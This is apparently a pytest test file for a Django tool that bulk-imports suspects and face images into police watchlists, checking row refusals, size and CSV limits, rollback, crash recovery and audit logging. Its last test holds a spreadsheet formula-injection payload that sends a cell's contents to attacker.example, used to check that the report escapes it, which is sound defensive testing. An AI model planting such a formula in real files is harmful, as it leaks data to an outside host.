import csv
from io import BytesIO

import pytest
from django.core.management import call_command

from audit.models import AuditEvent
from core.errors import RuleViolation
from tests.factories import import_csv, import_zip, protected_files
from tests.factories import import_row as row
from tests.samples import YAO_MING, group_jpeg, no_face_jpeg, person_jpeg, yao_ming_second_photo_jpeg
from watchlists.bulk_import import bulk_import_run, bulk_import_start
from watchlists.models import BulkImport, ReferenceImage, Subject
from watchlists.services import watchlist_create

pytestmark = pytest.mark.django_db


@pytest.fixture
def watchlist(detective):
    return watchlist_create(actor=detective, name="Op Bulk", purpose="Robbery series")


def test_a_bad_row_does_not_sink_the_batch(detective, watchlist):
    rows = [row("R1", "p0.jpg"), row("R2", "missing.jpg"), row("R3", "noface.jpg"), row("R4", "p1.jpg", "of_interest"),
            row("R5", "group.jpg"), row("R6", "yao.jpg"), row("R7", "yao2.jpg"), row("R8", "p2.jpg", dob="2015-01-01"),
            row("R1", "p3.jpg")]
    files = {"p0.jpg": person_jpeg(0), "noface.jpg": no_face_jpeg(), "p1.jpg": person_jpeg(1),
             "group.jpg": group_jpeg("t1"), "yao.jpg": person_jpeg(YAO_MING), "yao2.jpg": yao_ming_second_photo_jpeg(),
             "p2.jpg": person_jpeg(2), "p3.jpg": person_jpeg(3)}
    job = bulk_import_start(actor=detective, watchlist=watchlist, csv_file=BytesIO(import_csv(rows)),
                            zip_file=BytesIO(import_zip(files)), enqueue=False)
    seen = []
    job = bulk_import_run(import_id=job.pk, progress=lambda j: seen.append(j.processed_rows))

    assert job.status == BulkImport.Status.FINISHED and seen[-1] == 9
    by_ref = {}
    for entry in job.report:
        by_ref.setdefault(entry["reference"], []).append(entry)
    assert by_ref["R1"][0]["status"] == "enrolled"
    assert by_ref["R2"][0] == {**by_ref["R2"][0], "status": "refused", "detail": "missing.jpg is not in the zip file"}
    assert by_ref["R3"][0]["detail"] == "no face found in the image"
    assert "inclusion category must be one of" in by_ref["R4"][0]["detail"]
    assert "6 faces found" in by_ref["R5"][0]["detail"]
    assert by_ref["R6"][0]["status"] == "enrolled"
    assert by_ref["R7"][0]["status"] == "duplicate" and "Name R6 (R6)" in by_ref["R7"][0]["detail"]
    assert "under 18" in by_ref["R8"][0]["detail"]
    assert by_ref["R1"][1]["detail"] == "a subject with reference R1 already exists"
    assert (job.enrolled, job.duplicates, job.refused) == (2, 1, 6)
    assert sorted(watchlist.entries.values_list("subject__reference", flat=True)) == ["R1", "R6"]
    # Refused rows left no half-made subject behind.
    assert not Subject.objects.filter(reference__in=["R2", "R4", "R8"]).exists()
    assert AuditEvent.objects.filter(action="bulk_import.finished").get().details["enrolled"] == 2


def test_missing_columns_are_refused_before_anything_is_stored(detective, watchlist):
    with pytest.raises(RuleViolation, match="lacks the column"):
        bulk_import_start(actor=detective, watchlist=watchlist, csv_file=BytesIO(b"reference,name\nR1,A\n"),
                          zip_file=BytesIO(import_zip({})), enqueue=False)
    assert not BulkImport.objects.exists()


def test_a_file_that_is_not_a_zip_is_refused(detective, watchlist):
    with pytest.raises(RuleViolation, match="not a zip archive"):
        bulk_import_start(actor=detective, watchlist=watchlist, csv_file=BytesIO(import_csv([row("R1", "a.jpg")])),
                          zip_file=BytesIO(b"not a zip"), enqueue=False)


def test_the_command_shows_progress_and_writes_the_report(detective, watchlist, tmp_path, capsys):
    (tmp_path / "subjects.csv").write_bytes(import_csv([row("C1", "a.jpg"), row("C2", "b.jpg")]))
    (tmp_path / "images.zip").write_bytes(import_zip({"a.jpg": person_jpeg(4), "b.jpg": b"broken"}))
    call_command("bulk_import", "--watchlist", str(watchlist.pk), "--csv", str(tmp_path / "subjects.csv"),
                 "--zip", str(tmp_path / "images.zip"), "--as", detective.username,
                 "--report", str(tmp_path / "report.csv"))
    out = capsys.readouterr().out
    assert "2/2 rows" in out and "1 enrolled, 1 refused, 0 duplicates" in out
    report = list(csv.DictReader(open(tmp_path / "report.csv")))
    assert [r["status"] for r in report] == ["enrolled", "refused"]
    assert "could not decode image" in report[1]["detail"]


def test_an_oversized_images_file_is_refused(detective, watchlist, settings):
    settings.BULK_IMPORT_MAX_BYTES = 1000
    with pytest.raises(RuleViolation, match="the limit is 0 MB per import"):
        bulk_import_start(actor=detective, watchlist=watchlist, csv_file=BytesIO(import_csv([row("R1", "a.jpg")])),
                          zip_file=BytesIO(import_zip({"a.jpg": person_jpeg(0)})), enqueue=False)
    assert not BulkImport.objects.exists()


def start(detective, watchlist, csv_data: bytes, files: dict[str, bytes] | None = None):
    return bulk_import_start(actor=detective, watchlist=watchlist, csv_file=BytesIO(csv_data),
                             zip_file=BytesIO(import_zip(files or {})), enqueue=False)


HEADER = b"reference,name,category,reason,legal_basis,image\r\n"
GOOD = b"R1,Name R1,suspected_of_offence,Robbery,PACE s.24,a.jpg\r\n"


@pytest.mark.parametrize(("csv_data", "message"), [
    (HEADER + GOOD + b"R2,Name,suspected_of_offence," + b"x" * 200_000 + b",PACE,b.jpg\r\n",
     "row 3: a field is longer than 10,000 characters"),
    (HEADER + GOOD + b"R2,Name,suspected_of_offence," + b"x" * 20_000 + b",PACE,b.jpg\r\n",
     "row 3: the reason field is 20,000 characters long; at most 10,000"),
    (HEADER + GOOD + b"R2,Name,suspected_of_offence," + b"x" * 300_000 + b"\r\n", "row 3: a line is longer than 256 KB"),
    (HEADER + GOOD + GOOD + b"R3,Caf\xe9,suspected_of_offence,r,b,c.jpg\r\n", "row 4: the CSV is not UTF-8 text"),
    (HEADER + b'R1,"Name" R1,suspected_of_offence,r,b,a.jpg\r\n', "row 2: the CSV is malformed"),
    (HEADER + GOOD + b"R2,Na\x00me,suspected_of_offence,r,b,a.jpg\r\n", "row 3: the CSV contains a NUL character"),
    (HEADER + GOOD * 4, "the CSV has more than 3 rows; at most 3 per import"),
    (HEADER, "the CSV has no rows"),
])
def test_a_csv_that_breaks_a_limit_is_refused_naming_the_row(detective, watchlist, monkeypatch, csv_data, message):
    monkeypatch.setattr("watchlists.bulk_import.MAX_ROWS", 3)
    with pytest.raises(RuleViolation) as refused:
        start(detective, watchlist, csv_data)
    assert refused.value.messages[0].startswith(message)
    assert not BulkImport.objects.exists()


def test_an_oversized_csv_is_refused_before_it_is_parsed(detective, watchlist, settings):
    settings.BULK_IMPORT_CSV_MAX_BYTES = 1000
    with pytest.raises(RuleViolation, match="the CSV file is 0 MB; the limit is 0 MB per import"):
        start(detective, watchlist, HEADER + GOOD * 100)
    assert not BulkImport.objects.exists()


def test_an_image_over_the_size_limit_is_refused_from_the_zip(detective, watchlist, settings):
    settings.REFERENCE_IMAGE_MAX_BYTES = 1000
    job = start(detective, watchlist, import_csv([row("R1", "big.jpg")]), {"big.jpg": b"x" * 5000})
    assert bulk_import_run(import_id=job.pk).report[0]["detail"] == (
        "big.jpg is 0.0 MB uncompressed; the limit is 0 MB")


def test_a_row_with_one_bad_image_of_several_leaves_no_file(detective, watchlist):
    job = start(detective, watchlist, import_csv([row("R1", "p0.jpg;bad.jpg")]),
                {"p0.jpg": person_jpeg(0), "bad.jpg": b"not an image"})
    images_before = {p for p in protected_files() if "/subjects/" in p.as_posix()}
    job = bulk_import_run(import_id=job.pk)
    assert job.report[0]["status"] == "refused" and "not a recognised image format" in job.report[0]["detail"]
    assert not Subject.objects.exists() and not ReferenceImage.objects.exists()
    # p0.jpg was stored before bad.jpg was refused: its file went with the rolled-back row.
    assert {p for p in protected_files() if "/subjects/" in p.as_posix()} == images_before


class WorkerCrash(BaseException):
    """Stands for the worker process dying: nothing after it runs, not even `except Exception`."""


def test_a_redelivered_import_resumes_and_reports_each_row_once(detective, watchlist, monkeypatch):
    from watchlists import services
    from watchlists.tasks import bulk_import_run_task

    monkeypatch.setattr("watchlists.bulk_import.CHUNK_ROWS", 2)
    rows = [row("R1", "p0.jpg"), row("R2", "missing.jpg"), row("R3", "p1.jpg"), row("R4", "yao.jpg"),
            row("R5", "yao2.jpg"), row("R6", "p2.jpg")]
    files = {"p0.jpg": person_jpeg(0), "p1.jpg": person_jpeg(1), "yao.jpg": person_jpeg(YAO_MING),
             "yao2.jpg": yao_ming_second_photo_jpeg(), "p2.jpg": person_jpeg(2)}
    job = start(detective, watchlist, import_csv(rows), files)

    # First delivery: the worker dies in the engine on the second chunk, after R3 and R4 were created.
    real_enrol, calls = services.reference_images_enrol, []

    def enrol_then_die(*, image_ids):
        calls.append(image_ids)
        if len(calls) == 2:
            raise WorkerCrash
        return real_enrol(image_ids=image_ids)

    monkeypatch.setattr(services, "reference_images_enrol", enrol_then_die)
    with pytest.raises(WorkerCrash):
        bulk_import_run_task(job.pk)
    job.refresh_from_db()
    assert job.status == BulkImport.Status.RUNNING and job.processed_rows == 2
    assert dict(job.rows.values_list("number", "status")) == {2: "enrolled", 3: "refused", 4: "created", 5: "created"}

    # Redelivered: rows 2-3 are not redone, 4-5 are decided without re-creating their subjects, 6-7 run.
    monkeypatch.setattr(services, "reference_images_enrol", real_enrol)
    assert bulk_import_run_task(job.pk)["status"] == BulkImport.Status.FINISHED
    job.refresh_from_db()
    report = job.report
    assert [(r["row"], r["reference"], r["status"]) for r in report] == [
        (2, "R1", "enrolled"), (3, "R2", "refused"), (4, "R3", "enrolled"), (5, "R4", "enrolled"),
        (6, "R5", "duplicate"), (7, "R6", "enrolled")]
    assert report[1]["detail"] == "missing.jpg is not in the zip file"
    assert "Name R4 (R4)" in report[4]["detail"]
    assert (job.processed_rows, job.enrolled, job.duplicates, job.refused) == (6, 4, 1, 1)
    references = list(Subject.objects.filter(reference__startswith="R").values_list("reference", flat=True))
    assert sorted(references) == sorted(set(references)) == ["R1", "R3", "R4", "R5", "R6"]
    assert sorted(watchlist.entries.values_list("subject__reference", flat=True)) == ["R1", "R3", "R4", "R6"]
    assert AuditEvent.objects.filter(action="bulk_import.resumed").get().details == {"rows_done": 2}
    assert AuditEvent.objects.filter(action="bulk_import.finished").get().details == {
        "rows": 6, "enrolled": 4, "refused": 1, "duplicates": 1}


def test_the_command_report_is_inert_in_a_spreadsheet(detective, watchlist, tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
    (tmp_path / "subjects.csv").write_bytes(import_csv([row(formula, "a.jpg"), row("C2", "=1+2.jpg")]))
    (tmp_path / "images.zip").write_bytes(import_zip({}))
    call_command("bulk_import", "--watchlist", str(watchlist.pk), "--csv", str(tmp_path / "subjects.csv"),
                 "--zip", str(tmp_path / "images.zip"), "--as", detective.username,
                 "--report", str(tmp_path / "report.csv"))
    report = list(csv.DictReader(open(tmp_path / "report.csv")))
    assert report[0]["reference"] == "'" + formula
    assert report[1]["detail"] == "'=1+2.jpg is not in the zip file"
